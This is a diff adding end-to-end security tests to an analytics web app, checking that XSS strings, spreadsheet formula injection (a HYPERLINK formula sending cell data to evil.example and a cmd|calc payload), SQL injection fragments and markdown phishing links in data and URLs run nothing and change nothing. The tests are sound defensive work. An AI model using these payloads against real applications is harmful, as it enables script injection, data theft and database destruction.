@@ -8,6 +8,9 @@ import json
 import re
 import shutil
 import subprocess
+import unicodedata
+from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
 
@@ -158,15 +161,308 @@ def test_the_secret_scan_finds_what_it_looks_for(tmp_path):
     """The patterns above catch real secrets (so the scan cannot pass by matching nothing)."""
     from analytics.auth import hash_password
 
+    # Assembled at run time, so this file holds none of them as written.
     sample = "\n".join(
         [
             f'password_hash = "{hash_password("mot-mat-khau", n=2**10)}"',
-            "-----BEGIN OPENSSH PRIVATE KEY-----",
-            'client_secret = "GOCSPX-abcdefghijklmnop"',
-            'cookie_secret = "a-long-random-cookie-secret"',
+            "-----BEGIN " + "OPENSSH PRIVATE KEY-----",
+            "client_" + 'secret = "GOCSPX-abcdefghijklmnop"',
+            "cookie_" + 'secret = "a-long-random-cookie-secret"',
         ]
     )
     hits = {what for what, pattern in _SECRET_PATTERNS.items() if pattern.search(sample)}
     assert hits == {"password hash", "private key", "OIDC client secret", "cookie secret"}
     # The README's placeholder hash is not a secret and is not matched.
     assert not _SECRET_PATTERNS["password hash"].search('password_hash = "scrypt$16384$8$1$...$..."')
+
+
+# --- hostile text from the data -----------------------------------------------------------------------------
+
+HOSTILE = {
+    "HX-1": "<img src=x onerror=window.__xss=1>",
+    "HX-2": "<script>window.__xss=2</script>",
+    "HX-3": '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")',
+    "HX-4": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "HX-5": "[bấm vào đây](javascript:window.__xss=5)",
+    "HX-6": "**đậm** <b>in đậm</b> ![ảnh](https://evil.example/pixel.png)",
+}
+HOSTILE_FIELD = "<img src=x onerror=window.__xss=6>"
+HOSTILE_AUTHOR = "<svg onload=window.__xss=7>"
+
+
+def hostile_csv() -> bytes:
+    body = []
+    for i, (code, title) in enumerate(HOSTILE.items()):
+        benefit = f"{(99 - i) * 100:,}".replace(",", ".") + ".000.000.000"  # the largest benefits of all
+        field = HOSTILE_FIELD if code == "HX-5" else "Kỹ thuật – Công nghệ"
+        author = HOSTILE_AUTHOR if code == "HX-5" else "Nguyễn Văn An"
+        body.append(
+            [str(i + 1), code, title, author, "PVEP", field, "Đã áp dụng", "31/08/2023", "", benefit, ""]
+        )
+    return fx.csv_bytes(body)
+
+
+@pytest.fixture(scope="module")
+def hostile(sample_db, tmp_path_factory):
+    """One server on a store holding hostile titles, a hostile field and author (PVEP, the largest
+    benefits, registered on the last day), plus the figures the URL tests expect, from the store itself."""
+    from analytics import ingest
+    from analytics.filters import Filters
+    from analytics.metrics import progress
+
+    work = tmp_path_factory.mktemp("hostile")
+    db = work / "store.duckdb"
+    shutil.copy(sample_db, db)
+    store = open_store(db)
+    report = ingest.commit(store, hostile_csv(), "hostile.csv")
+    assert report.inserted == len(HOSTILE) and not report.rejected, report.message()
+
+    def registered(**filters) -> int:
+        return int(progress(store, Filters(**filters)).program["registered"])
+
+    expected = {
+        "all": registered(),
+        "PVEP": registered(units=("PVEP",)),
+        "group": registered(groups=("Lọc hóa dầu",)),
+        "group_phase1": registered(phase=1, groups=("Lọc hóa dầu",)),
+    }
+    store.close()
+    before = _state(db)
+    server = start_app(db, work / "srv")
+    yield server, expected, before
+    server.stop()
+
+
+def _state(db) -> tuple:
+    store = open_store(db, read_only=True)
+    try:
+        return (
+            store.record_count(),
+            store.one(
+                "SELECT sum(hash(code, title, authors, field, unit_code, benefit_vnd)) FROM initiatives"
+            ),
+            store.rows("SELECT id, undone_at FROM imports ORDER BY id"),
+            store.one("SELECT count(*) FROM initiative_history"),
+            store.one("SELECT count(*) FROM reference_history"),
+            store.one("SELECT sum(hash(unit_code, phase, target)) FROM targets"),
+            store.data_version(),
+        )
+    finally:
+        store.close()
+
+
+def _watch(page) -> dict:
+    """Record what would betray a script run or an outside request: dialogs, page errors, requests."""
+    seen: dict = {"dialogs": [], "requests": []}
+    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
+    page.on(
+        "request",
+        lambda r: seen["requests"].append(r.url) if urlsplit(r.url).hostname == "evil.example" else None,
+    )
+    return seen
+
+
+def _ran_nothing(page, seen: dict, where: str) -> None:
+    assert page.evaluate("() => typeof window.__xss") == "undefined", where
+    assert seen["dialogs"] == [] and seen["requests"] == [], (where, seen)
+    assert page.errors == [], (where, page.errors)
+    dangerous = page.evaluate(
+        """() => ({
+            img: Array.from(document.querySelectorAll('img')).filter(i => i.getAttribute('src') === 'x' || (i.src || '').includes('evil.example')).length,
+            script: Array.from(document.querySelectorAll('script')).filter(s => s.textContent.includes('__xss')).length,
+            svg: document.querySelectorAll('svg[onload]').length,
+            links: Array.from(document.querySelectorAll('a[href]')).filter(a => /^javascript:|evil\\.example/.test(a.getAttribute('href'))).length,
+        })"""
+    )
+    assert dangerous == {"img": 0, "script": 0, "svg": 0, "links": 0}, (where, dangerous)
+
+
+def test_hostile_titles_render_as_text_and_run_nothing_on_every_page(hostile, page):
+    from tests.e2e.conftest import open_page, settle
+    from tests.e2e.helpers import all_grid_text, wait_until
+
+    server, _, _ = hostile
+    seen = _watch(page)
+    # Records: searched down to the hostile rows; every title is in the grid as typed.
+    open_page(page, server.url + "/records?unit=PVEP")
+    search = page.locator('[data-testid="stTextInput"] input').first
+    search.fill("HX-")
+    search.press("Enter")
+    wait_until(
+        lambda: "6 hồ sơ khớp bộ lọc" in page.locator('[data-testid="stMain"]').inner_text(), what="search"
+    )
+    settle(page)
+    grid = wait_until(lambda: all_grid_text(page), what="records grid")
+    for title in HOSTILE.values():
+        assert title in grid, title
+    _ran_nothing(page, seen, "records")
+
+    # A unit's detail (its top initiatives), the Benefit page's top initiatives.
+    open_page(page, server.url + "/units?detail=PVEP")
+    page.locator('[role="dialog"]').wait_for(timeout=30_000)
+    settle(page)
+    grid = wait_until(lambda: all_grid_text(page), what="detail grids")
+    assert HOSTILE["HX-1"] in grid and HOSTILE["HX-2"] in grid
+    _ran_nothing(page, seen, "unit detail")
+    open_page(page, server.url + "/benefit")
+    grid = wait_until(lambda: HOSTILE["HX-1"] in all_grid_text(page) and all_grid_text(page), what="top grid")
+    assert HOSTILE["HX-2"] in grid and HOSTILE["HX-5"] in grid
+    _ran_nothing(page, seen, "benefit")
+
+    # The report preview names the field with the largest benefit: the hostile one, as text.
+    open_page(page, server.url + "/report")
+    wait_until(
+        lambda: HOSTILE_FIELD in page.locator('[data-testid="stMain"]').inner_text(), what="report text"
+    )
+    _ran_nothing(page, seen, "report")
+    # Pages that draw the field in charts and the sidebar.
+    for path in ("/", "/trends", "/units"):
+        open_page(page, server.url + path)
+        _ran_nothing(page, seen, path)
+    # The detector works: markup planted by a script is seen (so the checks above cannot pass vacuously).
+    page.evaluate("""() => { const d = document.createElement('div');
+        d.innerHTML = '<img src=x onerror="window.__xss=9">'; document.body.appendChild(d); }""")
+    page.wait_for_function("() => window.__xss === 9", timeout=10_000)
+    with pytest.raises(AssertionError):
+        _ran_nothing(page, seen, "planted")
+
+
+def test_records_downloads_neutralise_formulas(hostile, page):
+    import io
+
+    from openpyxl import load_workbook
+
+    from tests.e2e.conftest import open_page
+    from tests.e2e.helpers import read_csv_download
+
+    server, expected, _ = hostile
+    open_page(page, server.url + "/records?unit=PVEP")
+    n = f"{expected['PVEP']:,}".replace(",", ".")
+    data, rows = read_csv_download(page, f"Tải CSV ({n} hồ sơ)")
+    assert data.startswith(b"\xef\xbb\xbf") and len(rows) == expected["PVEP"]
+    titles = {r["Mã hồ sơ"]: r["Tên sáng kiến"] for r in rows if r["Mã hồ sơ"].startswith("HX-")}
+    assert titles["HX-3"] == "'" + HOSTILE["HX-3"]  # '=HYPERLINK(...): text in Excel, never a formula
+    assert titles["HX-4"] == "'" + HOSTILE["HX-4"]
+    assert titles["HX-1"] == HOSTILE["HX-1"] and titles["HX-5"] == HOSTILE["HX-5"]  # kept verbatim
+    with page.expect_download(timeout=60_000) as caught:
+        page.locator('[data-testid="stDownloadButton"] button', has_text="Tải Excel").first.click()
+    book = load_workbook(io.BytesIO(Path(caught.value.path()).read_bytes()))
+    sheet = book.worksheets[0]
+    cells = [
+        c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
+    assert len(cells) == 1 and cells[0].value == "'" + HOSTILE["HX-3"] and cells[0].data_type == "s"
+
+
+# --- hostile filter values in the URL -----------------------------------------------------------------------
+
+NOTICE = "Liên kết có giá trị không hợp lệ, đã bỏ qua"
+NFD_GROUP = unicodedata.normalize("NFD", "Lọc hóa dầu")
+URL_CASES = {
+    # query parameters, expected registered (key of `expected`), what the notice must name (None: no notice).
+    # (The notice is markdown, which turns "--" into a dash: names are compared up to there.)
+    "quotes and Unicode tricks": (
+        [("unit", "PVEP"), ("unit", "BSR' OR '1'='1"), ("unit", "B\u200bSR"), ("unit", "\u202ePVEP"),
+         ("unit", "A" * 3000), ("group", 'x" OR 1=1 --')],
+        "PVEP",
+        ["unit=BSR' OR '1'='1", "unit=B\u200bSR", "unit=\u202ePVEP", "unit=AAAAAAAA", 'group=x" OR 1=1'],
+    ),
+    "SQL fragments": (
+        [("unit", "PVEP'); DROP TABLE initiatives; --"), ("phase", "1 OR 1=1"), ("status", "recognized'--"),
+         ("as_of", "2022-05-31' --"), ("from", "2022-01-01'; DELETE FROM initiatives")],
+        "all",
+        ["unit=PVEP'); DROP TABLE initiatives;", "phase=1 OR 1=1", "status=recognized'", "as_of=2022-05-31'",
+         "from=2022-01-01'; DELETE FROM initiatives"],
+    ),
+    "the decomposed spelling of a group is the same group": (
+        [("phase", "1"), ("group", NFD_GROUP)], "group_phase1", None,
+    ),
+}  # fmt: skip
+
+
+def _query(params: list[tuple[str, str]]) -> str:
+    from urllib.parse import quote, urlencode
+
+    return urlencode(params, quote_via=quote)
+
+
+@pytest.mark.parametrize("case", list(URL_CASES))
+def test_hostile_filter_values_change_nothing_but_the_filter(hostile, page, case):
+    from tests.e2e.conftest import exceptions_on, metric_value, open_page
+    from tests.e2e.helpers import wait_until
+
+    params, want, named = URL_CASES[case]
+    server, expected, _ = hostile
+    open_page(page, f"{server.url}/?{_query(params)}")
+    value = wait_until(lambda: metric_value(page, "Đã đăng ký"), what="registered")[0]
+    assert int(value.replace(".", "")) == expected[want]
+    notices = [n for n in page.locator('[data-testid="stAlert"]').all_inner_texts() if NOTICE in n]
+    if named is None:
+        assert notices == []
+    else:
+        assert len(notices) == 1, notices
+        for name in named:
+            assert name in notices[0], (name, notices[0][:300])
+    assert [e for e in exceptions_on(page) if NOTICE not in e] == []
+    assert page.errors == []
+
+
+def test_an_unknown_field_in_the_url_filters_to_nothing_and_writes_nothing(hostile, page):
+    """Fields are free text (as recorded), so the URL's value is a filter like any other: a SQL fragment
+    matches no record. It is not named in a notice (see the next test)."""
+    from tests.e2e.conftest import metric_value, open_page
+    from tests.e2e.helpers import wait_until
+
+    server, _, _ = hostile
+    hostile_fields = [("field", "' OR '1'='1"), ("field", "x'); DELETE FROM initiatives; --")]
+    open_page(page, server.url + "/records?" + _query(hostile_fields))
+    wait_until(
+        lambda: "Không có hồ sơ nào khớp bộ lọc" in page.locator('[data-testid="stMain"]').inner_text(),
+        what="empty",
+    )
+    open_page(page, server.url + "/?" + _query([("field", "' OR '1'='1")]))
+    assert wait_until(lambda: metric_value(page, "Đã đăng ký"), what="registered")[0] == "0"
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="field values in the URL are not checked against the recorded fields (analytics/filters.from_query "
+    "takes no known_fields; ui/context._seed_from_url passes none), so an unknown field gives an empty view "
+    "without the notice every other unknown value gets",
+)
+def test_an_unknown_field_in_the_url_is_named_in_the_notice(hostile, page):
+    from tests.e2e.conftest import open_page
+
+    server, _, _ = hostile
+    open_page(page, server.url + "/?" + _query([("field", "' OR '1'='1")]))
+    notices = page.locator('[data-testid="stAlert"]').all_inner_texts()
+    assert any(NOTICE in n and "field=' OR '1'='1" in n for n in notices), notices
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="ui/widgets.page_header writes the dropped URL values into st.warning as markdown: a crafted link "
+    "shows a clickable link inside the app's own notice and loads outside images (and '--' becomes a dash). "
+    "Fix (lead's file): escape markdown in each value (and shorten long ones) before formatting url.dropped",
+)
+@pytest.mark.parametrize(
+    "value",
+    ["[Đăng nhập lại](https://evil.example/login)", "![x](https://evil.example/pixel.png)"],
+    ids=["link", "image"],
+)
+def test_markdown_in_a_url_value_is_not_rendered_in_the_notice(hostile, page, value):
+    from tests.e2e.conftest import open_page
+
+    server, _, _ = hostile
+    seen = _watch(page)
+    open_page(page, f"{server.url}/?{_query([('unit', value)])}")
+    notices = [n for n in page.locator('[data-testid="stAlert"]').all_inner_texts() if NOTICE in n]
+    assert len(notices) == 1
+    _ran_nothing(page, seen, value)
+    assert value in notices[0]  # shown as the text that was in the link
+
+
+def test_the_store_is_unchanged_by_all_that_hostile_input(hostile):
+    server, _, before = hostile
+    server.stop()
+    assert _state(server.db) == before
